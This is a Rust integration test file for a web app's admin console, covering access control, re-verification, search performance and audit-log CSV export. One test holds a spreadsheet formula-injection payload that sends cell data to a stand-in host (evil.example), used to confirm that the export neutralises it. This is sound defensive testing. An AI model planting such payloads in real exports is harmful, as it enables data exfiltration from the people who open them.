//! The admin console's server functions: every one refuses a signed-out client (401) and a
//! person who is not an administrator (403), and works for an administrator; on SQLite and
//! PostgreSQL, through the real router.

mod support;

use app::backend::prelude::*;
use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use server::http::router;
use support::{PASSWORD, TestDatabase, TestResult, context};
use tower::ServiceExt;

/// Every admin server function with a valid form for it. The sweep below fails when an admin
/// server function is added without being listed here.
const ADMIN_CALLS: &[(&str, &[(&str, &str)])] = &[
    ("/api/admin_organization", &[]),
    (
        "/api/admin_set_organization_setting",
        &[("setting", "require_two_step"), ("on", "true")],
    ),
    ("/api/admin_set_app_password_idle_days", &[("days", "90")]),
    ("/api/admin_mail_settings", &[]),
    (
        "/api/admin_set_mail_settings",
        &[
            ("imap_host", "imap.contoso.example"),
            ("imap_port", "993"),
            ("imap_tls", "on"),
            ("smtp_host", "smtp.contoso.example"),
            ("smtp_port", "465"),
            ("smtp_tls", "on"),
            ("caldav_url", ""),
            ("carddav_url", ""),
        ],
    ),
    ("/api/admin_people", &[("query", "ada")]),
    ("/api/admin_audit", &[("kind", "policy.changed")]),
    (
        "/api/admin_app_passwords",
        &[("username", "ada@contoso.example")],
    ),
    (
        "/api/admin_revoke_app_password",
        &[("username", "ada@contoso.example"), ("id", "1")],
    ),
    (
        "/api/admin_add_person",
        &[
            ("username", "grace@contoso.example"),
            ("display_name", "Grace Hopper"),
        ],
    ),
    // Bob's reset ends only his sessions.
    (
        "/api/admin_reset_password",
        &[("username", "bob@contoso.example")],
    ),
    // Last: it signs Ada out.
    (
        "/api/admin_act_on_person",
        &[
            ("username", "ada@contoso.example"),
            ("action", "sign_out_everywhere"),
        ],
    ),
];

async fn call(
    app: &axum::Router,
    path: &str,
    fields: &[(&str, &str)],
    session_token: Option<&str>,
) -> Result<(StatusCode, String), Box<dyn std::error::Error + Send + Sync>> {
    let mut request = Request::post(path)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .header(header::ACCEPT, "application/json")
        .header("Sec-Fetch-Site", "same-origin");
    if let Some(token) = session_token {
        request = request.header(
            header::COOKIE,
            format!("{}={token}", server::use_cases::SESSION_COOKIE),
        );
    }
    let response = app
        .clone()
        .oneshot(request.body(Body::from(serde_urlencoded::to_string(fields)?))?)
        .await?;
    let status = response.status();
    let body = axum::body::to_bytes(response.into_body(), 1 << 20).await?;
    Ok((status, String::from_utf8_lossy(&body).into_owned()))
}

async fn session_of(
    backend: &server::use_cases::ServerBackend,
    username: &str,
) -> Result<String, Box<dyn std::error::Error + Send + Sync>> {
    let (_, cookie) = backend
        .sign_in(&context("192.0.2.1", None), username, PASSWORD)
        .await?;
    let token = context("192.0.2.1", Some(&cookie))
        .session_token
        .ok_or("no session")?;
    Ok(token)
}

#[tokio::test]
async fn every_admin_server_function_refuses_everyone_but_administrators() -> TestResult {
    for database in TestDatabase::all().await {
        let backend = support::backend(&database).await;
        support::set_up_organization(&backend).await;
        support::add_user(&backend, "ada@contoso.example").await;
        support::add_user(&backend, "bob@contoso.example").await;
        // Her first app password (id 1), for the administrator to revoke.
        let (ada, _) = support::app_password_for(&backend, "ada@contoso.example", "Mail").await?;
        let app = router(support::state(backend.clone()));
        // With two steps: the first call makes the organization require them.
        let (admin, _) =
            support::signed_in_with_authenticator(&backend, "admin@contoso.example", "192.0.2.1")
                .await?;
        let admin = admin.session_token.ok_or("no session")?;
        let person = ada.session_token.ok_or("no session")?;

        let registered: Vec<&str> = leptos::server_fn::axum::server_fn_paths()
            .map(|(path, _)| path)
            .filter(|path| path.starts_with("/api/admin"))
            .collect();
        assert!(!registered.is_empty());
        for path in &registered {
            assert!(
                ADMIN_CALLS.iter().any(|(listed, _)| listed == path),
                "{path} is not swept: add it to ADMIN_CALLS"
            );
        }

        for (path, fields) in ADMIN_CALLS {
            let (status, body) = call(&app, path, fields, None).await?;
            assert_eq!(
                status,
                StatusCode::UNAUTHORIZED,
                "{path} signed out: {body}"
            );
            let (status, body) = call(&app, path, fields, Some(&person)).await?;
            assert_eq!(status, StatusCode::FORBIDDEN, "{path} as a person: {body}");
            assert!(body.contains("NotAdministrator"), "{path}: {body}");
            let (status, body) = call(&app, path, fields, Some(&admin)).await?;
            assert_eq!(
                status,
                StatusCode::OK,
                "{}: {path} as an administrator: {body}",
                database.name
            );
        }
        // Only the administrator's call changed anything, and it was audited.
        let org = backend.store().organization().await?.ok_or("org")?;
        assert!(org.require_two_step);
        let events = backend.store().audit_events(None, None).await?;
        let count = |kind: &str| events.iter().filter(|e| e.kind == kind).count();
        // Two policy changes: the two-step setting and the app passwords' idle days.
        assert_eq!(count("policy.changed"), 2);
        assert_eq!(count("app_password.revoked"), 1);
        assert_eq!(count("sign_out.by_administrator"), 1);
        assert_eq!(count("password.reset"), 1);
        assert_eq!(count("mail_settings.changed"), 1);
        // Each names the administrator who did it, and the console shows them.
        let admin_id = backend
            .store()
            .user_by_key("admin@contoso.example")
            .await?
            .ok_or("admin")?
            .id;
        for kind in [
            "policy.changed",
            "app_password.revoked",
            "password.reset",
            "user.added",
        ] {
            assert!(
                events
                    .iter()
                    .filter(|e| e.kind == kind && e.user_id != Some(admin_id))
                    .any(|e| e.actor_user_id == Some(admin_id)),
                "{}: {kind} without its administrator",
                database.name
            );
        }
        let admin_ctx = context("192.0.2.1", Some(&admin));
        let log = backend
            .audit_log(&admin_ctx, &app::model::AuditQuery::default(), None)
            .await?;
        let reset = log
            .entries
            .iter()
            .find(|e| e.kind == "password.reset")
            .ok_or("reset")?;
        assert_eq!(reset.person.as_deref(), Some("bob@contoso.example"));
        assert_eq!(reset.actor.as_deref(), Some("admin@contoso.example"));
        assert!(
            backend
                .store()
                .user_by_key("grace@contoso.example")
                .await?
                .is_some()
        );
    }
    Ok(())
}

#[tokio::test]
async fn an_administrator_turns_settings_on_and_off() -> TestResult {
    use app::model::PolicySetting;
    for database in TestDatabase::all().await {
        let backend = support::backend(&database).await;
        support::set_up_organization(&backend).await;
        // With two steps: turning "require two-step" on must not lock the administrator out.
        let (admin, _) =
            support::signed_in_with_authenticator(&backend, "admin@contoso.example", "192.0.2.1")
                .await?;
        let before = backend.organization_settings(&admin).await?;
        assert_eq!(before.name, "Contoso");
        assert!(before.is_on(PolicySetting::AllowAppPasswords));
        assert!(before.is_on(PolicySetting::ResetRevokesAppPasswords));
        assert!(!before.is_on(PolicySetting::RequireTwoStep));
        for setting in PolicySetting::ALL {
            let on = before.is_on(setting);
            let after = backend
                .set_organization_setting(
                    &admin,
                    setting,
                    !on,
                    &app::model::IdentityCheck::default(),
                )
                .await?;
            assert_eq!(after.is_on(setting), !on, "{}: {setting:?}", database.name);
        }
        let org = backend.store().organization().await?.ok_or("org")?;
        assert!(!org.allow_app_passwords && !org.security_info_experience);
        assert!(org.require_two_step && !org.reset_revokes_app_passwords);
    }
    Ok(())
}

#[tokio::test]
async fn people_are_found_by_the_start_of_their_names_a_page_at_a_time() -> TestResult {
    use app::model::PersonAction;
    for database in TestDatabase::all().await {
        let backend = support::backend(&database).await;
        support::set_up_organization(&backend).await;
        for n in 0..30 {
            support::add_user(&backend, &format!("user{n:02}@contoso.example")).await;
        }
        support::add_user(&backend, "ada_lovelace@contoso.example").await;
        support::add_user(&backend, "adam@contoso.example").await;
        let admin = context(
            "192.0.2.1",
            Some(&session_of(&backend, "admin@contoso.example").await?),
        );

        // Everyone, 25 a page, by sign-in name, without gaps or repeats.
        let first = backend.people(&admin, "", None).await?;
        assert_eq!(first.people.len(), 25, "{}", database.name);
        let second = backend.people(&admin, "", first.next.clone()).await?;
        assert_eq!(second.people.len(), 8);
        assert_eq!(second.next, None);
        let names: Vec<&str> = first
            .people
            .iter()
            .chain(&second.people)
            .map(|p| p.username.as_str())
            .collect();
        let mut sorted = names.clone();
        sorted.sort();
        sorted.dedup();
        assert_eq!(names, sorted);

        // A prefix, in any case; `_` is a character, not a wildcard.
        let found = backend.people(&admin, "ADA", None).await?;
        let found: Vec<&str> = found.people.iter().map(|p| p.username.as_str()).collect();
        assert_eq!(
            found,
            ["ada_lovelace@contoso.example", "adam@contoso.example"]
        );
        let underscore = backend.people(&admin, "ada_", None).await?;
        assert_eq!(underscore.people.len(), 1);
        // By the start of the display name too ("Test User" for everyone added here).
        assert_eq!(backend.people(&admin, "test", None).await?.people.len(), 25);
        assert!(backend.people(&admin, "zzz", None).await?.people.is_empty());

        // Actions answer with the person as they are now, and with nobody else (not with
        // someone listed before them whose name starts with their sign-in name).
        backend
            .store()
            .add_user(
                server::db::NewUser {
                    username: "aaron@contoso.example".to_owned(),
                    username_key: "aaron@contoso.example".to_owned(),
                    display_name: "ada_lovelace@contoso.example's deputy".to_owned(),
                    password_hash: "unused".to_owned(),
                    is_admin: false,
                },
                &server::db::Actor::default(),
                chrono::Utc::now(),
            )
            .await?;
        let ada = "ada_lovelace@contoso.example";
        let signed_out = backend
            .act_on_person(
                &admin,
                ada,
                PersonAction::SignOutEverywhere,
                &app::model::IdentityCheck::default(),
            )
            .await?;
        assert_eq!(signed_out.username, ada);
        let disabled = backend
            .act_on_person(
                &admin,
                ada,
                PersonAction::Disable,
                &app::model::IdentityCheck::default(),
            )
            .await?;
        assert!(!disabled.is_enabled);
        let enabled = backend
            .act_on_person(
                &admin,
                ada,
                PersonAction::Enable,
                &app::model::IdentityCheck::default(),
            )
            .await?;
        assert!(enabled.is_enabled);
        let made = backend
            .act_on_person(
                &admin,
                ada,
                PersonAction::MakeAdministrator,
                &app::model::IdentityCheck::default(),
            )
            .await?;
        assert!(made.is_admin);
        backend
            .act_on_person(
                &admin,
                ada,
                PersonAction::RemoveAdministrator,
                &app::model::IdentityCheck::default(),
            )
            .await?;
        // The last administrator stays one, and enabled.
        for action in [PersonAction::RemoveAdministrator, PersonAction::Disable] {
            assert_eq!(
                backend
                    .act_on_person(
                        &admin,
                        "admin@contoso.example",
                        action,
                        &app::model::IdentityCheck::default()
                    )
                    .await
                    .err(),
                Some(app::error::AppError::Forbidden(
                    app::error::Refusal::LastAdministrator
                )),
                "{action:?}"
            );
        }
        assert_eq!(
            backend
                .act_on_person(
                    &admin,
                    "nobody@contoso.example",
                    PersonAction::Enable,
                    &app::model::IdentityCheck::default()
                )
                .await
                .err(),
            Some(app::error::AppError::NoSuchPerson)
        );
    }
    Ok(())
}

/// The resident memory of this process, in KiB.
fn resident_kib() -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|status| {
            status
                .lines()
                .find(|line| line.starts_with("VmRSS:"))
                .and_then(|line| line.split_whitespace().nth(1))
                .and_then(|kib| kib.parse().ok())
        })
        .unwrap_or(0)
}

#[tokio::test]
async fn the_audit_log_exports_100_000_events_as_csv_in_batches() -> TestResult {
    use sea_orm::ConnectionTrait;
    for database in TestDatabase::all().await {
        let backend = support::backend(&database).await;
        support::set_up_organization(&backend).await;
        let ada = support::add_user(&backend, "ada@contoso.example").await;
        let app = router(support::state(backend.clone()));
        let admin = session_of(&backend, "admin@contoso.example").await?;
        let person = session_of(&backend, "ada@contoso.example").await?;
        let fill = if database.name == "postgres" {
            format!(
                "INSERT INTO audit_events (user_id, kind, detail, ip, user_agent, created_at) \
                 SELECT {}, 'sign_in.failed', 'wrong password, \"quoted\"' || i, '198.51.100.7', 'IMAP', \
                 TIMESTAMPTZ '2026-01-01 00:00:00+00' + i * INTERVAL '1 second' \
                 FROM generate_series(1, 100000) AS i",
                ada.id
            )
        } else {
            format!(
                "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 100000) \
                 INSERT INTO audit_events (user_id, kind, detail, ip, user_agent, created_at) \
                 SELECT {}, 'sign_in.failed', 'wrong password, \"quoted\"' || i, '198.51.100.7', 'IMAP', \
                 strftime('%Y-%m-%d %H:%M:%S+00:00', '2026-01-01', '+' || i || ' seconds') FROM n",
                ada.id
            )
        };
        backend
            .store()
            .connection()
            .execute_unprepared(&fill)
            .await?;

        let get = |uri: &str, token: Option<&str>| {
            let mut request = Request::get(uri);
            if let Some(token) = token {
                request = request.header(
                    header::COOKIE,
                    format!("{}={token}", server::use_cases::SESSION_COOKIE),
                );
            }
            request.body(Body::empty())
        };
        let signed_out = app.clone().oneshot(get("/admin/audit.csv", None)?).await?;
        assert_eq!(signed_out.status(), StatusCode::UNAUTHORIZED);
        let refused = app
            .clone()
            .oneshot(get("/admin/audit.csv", Some(&person))?)
            .await?;
        assert_eq!(refused.status(), StatusCode::FORBIDDEN);
        let bad = app
            .clone()
            .oneshot(get("/admin/audit.csv?from=yesterday", Some(&admin))?)
            .await?;
        assert_eq!(bad.status(), StatusCode::UNPROCESSABLE_ENTITY);

        let before = resident_kib();
        let response = app
            .clone()
            .oneshot(get(
                "/admin/audit.csv?person=ada%40contoso.example&kind=sign_in.failed",
                Some(&admin),
            )?)
            .await?;
        assert_eq!(response.status(), StatusCode::OK);
        assert!(
            response.headers()[header::CONTENT_TYPE]
                .to_str()?
                .starts_with("text/csv")
        );
        let mut body = response.into_body().into_data_stream();
        let (mut chunks, mut bytes, mut peak) = (0_usize, 0_usize, before);
        let mut csv_text = Vec::new();
        while let Some(chunk) = futures::StreamExt::next(&mut body).await {
            let chunk = chunk?;
            chunks += 1;
            bytes += chunk.len();
            csv_text.extend_from_slice(&chunk);
            peak = peak.max(resident_kib());
        }
        println!(
            "{}: CSV of 100000 events: {bytes} bytes in {chunks} chunks; resident memory grew by at most {} KiB while it streamed (the text itself is kept by this test)",
            database.name,
            peak.saturating_sub(before)
        );
        // Read and sent a batch at a time, not all at once.
        assert!(chunks >= 100, "{chunks} chunks");
        let mut reader = csv::Reader::from_reader(csv_text.as_slice());
        assert_eq!(
            reader.headers()?,
            vec![
                "time", "actor", "person", "kind", "detail", "address", "client", "count"
            ]
        );
        let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>()?;
        assert_eq!(rows.len(), 100_000, "{}", database.name);
        assert_eq!(&rows[0][2], "ada@contoso.example");
        assert_eq!(
            &rows[0][4], "wrong password, \"quoted\"100000",
            "newest first, quoted"
        );
        assert_eq!(&rows[99_999][0], "2026-01-01T00:00:01Z");

        // The console's page: 50 at a time, filtered by days.
        let admin_ctx = context("192.0.2.1", Some(&admin));
        let query = app::model::AuditQuery {
            person: "ada@contoso.example".to_owned(),
            kind: "sign_in.failed".to_owned(),
            from: "2026-01-01".to_owned(),
            to: "2026-01-01".to_owned(),
        };
        let page = backend.audit_log(&admin_ctx, &query, None).await?;
        assert_eq!(page.entries.len(), 50);
        assert!(page.kinds.iter().any(|k| k == "sign_in.failed"));
        let next = backend.audit_log(&admin_ctx, &query, page.older).await?;
        assert!(next.entries[0].id < page.entries[49].id);
    }
    Ok(())
}

#[tokio::test]
async fn the_people_search_uses_the_indexes_with_100_000_people() -> TestResult {
    use sea_orm::ConnectionTrait;
    for database in TestDatabase::all().await {
        let backend = support::backend(&database).await;
        support::set_up_organization(&backend).await;
        backend
            .store()
            .seed_people(100_000, "unused", chrono::Utc::now())
            .await?;
        let people: Vec<(String, String)> =
            (0..100_000).map(server::db::seed::seeded_person).collect();
        // What a database does after loading: statistics for the planner.
        backend
            .store()
            .connection()
            .execute_unprepared("ANALYZE")
            .await?;
        for prefix in ["", "a", "r", "ada", "grace h", "hedy.cerf1"] {
            let plan = backend.store().people_search_plan(prefix).await?;
            // A full scan: of the table, or of an index without a range (SQLite's "SCAN",
            // PostgreSQL's index scan with only a filter). Everyone in order is one.
            let full_scan = !prefix.is_empty()
                && plan.iter().any(|line| {
                    line.contains("Seq Scan")
                        || line.trim_start().starts_with("SCAN")
                        || line.contains("Filter:")
                });
            assert!(
                !full_scan,
                "{}: {prefix:?} scans every person:\n{}",
                database.name,
                plan.join("\n")
            );
            if prefix == "ada" {
                println!(
                    "{} plan for {prefix:?}:\n  {}",
                    database.name,
                    plan.join("\n  ")
                );
            }
        }
        let admin = context(
            "192.0.2.1",
            Some(&session_of(&backend, "admin@contoso.example").await?),
        );
        // Found as typed, in any case, by sign-in name or name.
        let hedy = backend.people(&admin, "HEDY.CERF", None).await?;
        assert!(!hedy.people.is_empty());
        assert!(
            hedy.people
                .iter()
                .all(|p| p.username.starts_with("hedy.cerf"))
        );
        let by_name = backend.people(&admin, "grace hop", None).await?;
        assert_eq!(by_name.people.len(), 25);
        assert!(
            by_name
                .people
                .iter()
                .all(|p| p.display_name == "Grace Hopper")
        );

        // Searches as administrators type them: the first letters of a name or sign-in name.
        let mut durations = Vec::new();
        let mut slowest = Vec::new();
        for n in 0..400usize {
            let (username, display_name) = &people[(n * 7919) % people.len()];
            let source = if n % 2 == 0 { username } else { display_name };
            let prefix: String = source.chars().take(1 + n % 6).collect();
            let after = (n % 5 == 0).then(|| username.clone());
            let started = std::time::Instant::now();
            backend.people(&admin, &prefix, after.clone()).await?;
            durations.push(started.elapsed());
            slowest.push((started.elapsed(), prefix, after));
        }
        slowest.sort();
        for (took, prefix, after) in slowest.iter().rev().take(3) {
            println!("  slowest: {took:?} for {prefix:?} after {after:?}");
        }
        durations.sort();
        let at =
            |q: f64| durations[((durations.len() as f64 * q) as usize).min(durations.len() - 1)];
        println!(
            "{}: people search with 100,000 people, {} searches (debug build): p50 {:.1} ms, p99 {:.1} ms, max {:.1} ms",
            database.name,
            durations.len(),
            at(0.5).as_secs_f64() * 1000.0,
            at(0.99).as_secs_f64() * 1000.0,
            durations[durations.len() - 1].as_secs_f64() * 1000.0,
        );
    }
    Ok(())
}

/// Cells that a spreadsheet reads as a formula.
fn begins_like_a_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[tokio::test]
async fn the_audit_csv_export_never_holds_a_spreadsheet_formula() -> TestResult {
    const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A2,\"details\")";
    const NAME: &str = "-2+3@contoso.example";
    for database in TestDatabase::all().await {
        let backend = support::backend(&database).await;
        support::set_up_organization(&backend).await;
        support::add_user(&backend, NAME).await;
        let app = router(support::state(backend.clone()));
        let admin = session_of(&backend, "admin@contoso.example").await?;

        // An outsider's failed sign-in: its User-Agent goes into the audit log as the client.
        let mut sign_in = Request::post("/api/sign_in")
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .header(header::ACCEPT, "application/json")
            .header("Sec-Fetch-Site", "same-origin")
            .header(header::USER_AGENT, FORMULA)
            .body(Body::from(serde_urlencoded::to_string([
                ("username", NAME),
                ("password", "not the password at all"),
            ])?))?;
        sign_in
            .extensions_mut()
            .insert(axum::extract::ConnectInfo(std::net::SocketAddr::from((
                [198, 51, 100, 66],
                40000,
            ))));
        let refused = app.clone().oneshot(sign_in).await?;
        assert_eq!(
            refused.status(),
            StatusCode::UNAUTHORIZED,
            "{}",
            database.name
        );

        let export = Request::get("/admin/audit.csv")
            .header(
                header::COOKIE,
                format!("{}={admin}", server::use_cases::SESSION_COOKIE),
            )
            .body(Body::empty())?;
        let response = app.clone().oneshot(export).await?;
        assert_eq!(response.status(), StatusCode::OK);
        let text = axum::body::to_bytes(response.into_body(), 1 << 20).await?;
        let mut reader = csv::Reader::from_reader(text.as_ref());
        let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>()?;
        let failed = rows
            .iter()
            .find(|row| &row[3] == "sign_in.failed")
            .ok_or("no failed sign-in in the export")?;
        assert_eq!(&failed[2], format!("'{NAME}"), "{}", database.name);
        assert_eq!(&failed[6], format!("'{FORMULA}"), "{}", database.name);
        for row in &rows {
            assert!(
                !row.iter().any(begins_like_a_formula),
                "{}: a formula in {row:?}",
                database.name
            );
        }
    }
    Ok(())
}

/// The admin console's changes (every `/api/admin*` function but the reading ones).
const ADMIN_CHANGES: &[&str] = &[
    "/api/admin_set_organization_setting",
    "/api/admin_set_app_password_idle_days",
    "/api/admin_revoke_app_password",
    "/api/admin_add_person",
    "/api/admin_reset_password",
    "/api/admin_act_on_person",
];

#[tokio::test]
async fn every_admin_change_needs_a_recent_sign_in_or_the_password_and_code() -> TestResult {
    for database in TestDatabase::all().await {
        let backend = support::backend(&database).await;
        support::set_up_organization(&backend).await;
        support::add_user(&backend, "ada@contoso.example").await;
        support::add_user(&backend, "bob@contoso.example").await;
        support::app_password_for(&backend, "ada@contoso.example", "Mail").await?;
        let app = router(support::state(backend.clone()));
        let (admin_ctx, secret) =
            support::signed_in_with_authenticator(&backend, "admin@contoso.example", "192.0.2.1")
                .await?;
        let admin = admin_ctx.session_token.clone().ok_or("no session")?;
        let session_id = backend
            .signed_in(&admin_ctx)
            .await?
            .ok_or("signed in")?
            .session
            .id;
        let age = || async {
            backend
                .store()
                .mark_session_verified(
                    session_id,
                    chrono::Utc::now() - chrono::Duration::minutes(11),
                )
                .await
        };
        let changes: Vec<&(&str, &[(&str, &str)])> = ADMIN_CALLS
            .iter()
            .filter(|(path, _)| ADMIN_CHANGES.contains(path))
            .collect();
        assert_eq!(changes.len(), ADMIN_CHANGES.len());
        // Reading needs no recent sign-in, and says it is not recent.
        age().await?;
        let settings = backend.organization_settings(&admin_ctx).await?;
        assert!(!settings.recently_signed_in && settings.has_two_step);
        let events_before = backend.store().audit_events(None, None).await?.len();
        for (path, fields) in &changes {
            let (status, body) = call(&app, path, fields, Some(&admin)).await?;
            assert_eq!(
                (status, body.contains("ReverifyRequired")),
                (StatusCode::FORBIDDEN, true),
                "{}: {path} 11 minutes after sign-in: {body}",
                database.name
            );
        }
        let events = backend.store().audit_events(None, None).await?;
        assert_eq!(events.len(), events_before, "nothing changed");

        // One prompt in the same request: a wrong password, then no code, then both.
        let (path, fields) = changes[0];
        let with = |extra: &[(&'static str, String)]| {
            let mut all: Vec<(&str, String)> =
                fields.iter().map(|(k, v)| (*k, (*v).to_owned())).collect();
            all.extend(extra.iter().cloned());
            all
        };
        for (extra, expected) in [
            (
                vec![("password", "not my password at all".to_owned())],
                "Your password is incorrect",
            ),
            (vec![("password", PASSWORD.to_owned())], "code"),
        ] {
            let form = with(&extra);
            let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
            let (status, body) = call(&app, path, &form, Some(&admin)).await?;
            assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{path}: {body}");
            assert!(body.contains(expected), "{path}: {body}");
        }
        let code = support::code_for(&secret, support::now_unix() + 30)?;
        let form = with(&[("password", PASSWORD.to_owned()), ("code", code)]);
        let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let (status, body) = call(&app, path, &form, Some(&admin)).await?;
        assert_eq!(status, StatusCode::OK, "{path}: {body}");
        // Confirmed: the next 10 minutes need nothing more.
        for (path, fields) in &changes[1..] {
            let (status, body) = call(&app, path, fields, Some(&admin)).await?;
            assert_eq!(
                status,
                StatusCode::OK,
                "{path} just after confirming: {body}"
            );
        }
    }
    Ok(())
}

/// A plain form post (no WebAssembly) as a browser sends it: the status, `Location` and page.
async fn plain_post(
    app: &axum::Router,
    path: &str,
    fields: &[(&str, &str)],
    session_token: &str,
) -> Result<(StatusCode, Option<String>, String), Box<dyn std::error::Error + Send + Sync>> {
    let request = Request::post(path)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .header(header::ACCEPT, "text/html")
        .header(header::REFERER, "http://127.0.0.1:3000/admin")
        .header("Sec-Fetch-Site", "same-origin")
        .header(
            header::COOKIE,
            format!("{}={session_token}", server::use_cases::SESSION_COOKIE),
        )
        .body(Body::from(serde_urlencoded::to_string(fields)?))?;
    support::answer(app, request).await
}

/// Without the WebAssembly, a refused change in the console comes back as it was typed, with
/// the reason at its field; the stored values stay as they were, and a valid change still goes
/// back to the console.
#[tokio::test]
async fn a_refused_plain_form_post_in_the_console_keeps_what_was_typed() -> TestResult {
    for database in TestDatabase::all().await {
        let name = database.name;
        let backend = support::backend(&database).await;
        support::set_up_organization(&backend).await;
        let (admin_ctx, _) =
            support::signed_in_with_authenticator(&backend, "admin@contoso.example", "192.0.2.1")
                .await?;
        let admin = admin_ctx.session_token.clone().ok_or("no session")?;
        let app = router(support::state(backend.clone()));
        let stored = backend.mail_settings(&admin_ctx).await?;

        let typed = [
            ("imap_host", "imap.typed.example"),
            ("imap_port", "99999"),
            ("imap_tls", "on"),
            ("smtp_host", "smtp.typed.example"),
            ("smtp_port", "587"),
            ("caldav_url", "https://dav.typed.example/"),
            ("carddav_url", ""),
        ];
        let (status, location, page) =
            plain_post(&app, "/api/admin_set_mail_settings", &typed, &admin).await?;
        assert_eq!((status, location), (StatusCode::OK, None), "{name}");
        for kept in [
            r#"value="imap.typed.example""#,
            r#"value="99999""#,
            r#"value="smtp.typed.example""#,
            r#"value="587""#,
            r#"value="https://dav.typed.example/""#,
        ] {
            assert!(page.contains(kept), "{name}: {kept} not in the page");
        }
        assert!(
            page.contains("Enter the IMAP port as a number from 1 to 65535"),
            "{name}: the reason is not shown"
        );
        assert_eq!(backend.mail_settings(&admin_ctx).await?, stored, "{name}");

        let (status, location, page) = plain_post(
            &app,
            "/api/admin_set_app_password_idle_days",
            &[("days", "ninety")],
            &admin,
        )
        .await?;
        assert_eq!((status, location), (StatusCode::OK, None), "{name}");
        assert!(page.contains(r#"value="ninety""#), "{name}: days not kept");
        assert!(page.contains("Enter a number of days"), "{name}: no reason");

        let (status, location, _) = plain_post(
            &app,
            "/api/admin_set_app_password_idle_days",
            &[("days", "90")],
            &admin,
        )
        .await?;
        assert!(status.is_redirection(), "{name}: {status}");
        assert_eq!(location.as_deref(), Some("/admin"), "{name}");
    }
    Ok(())
}
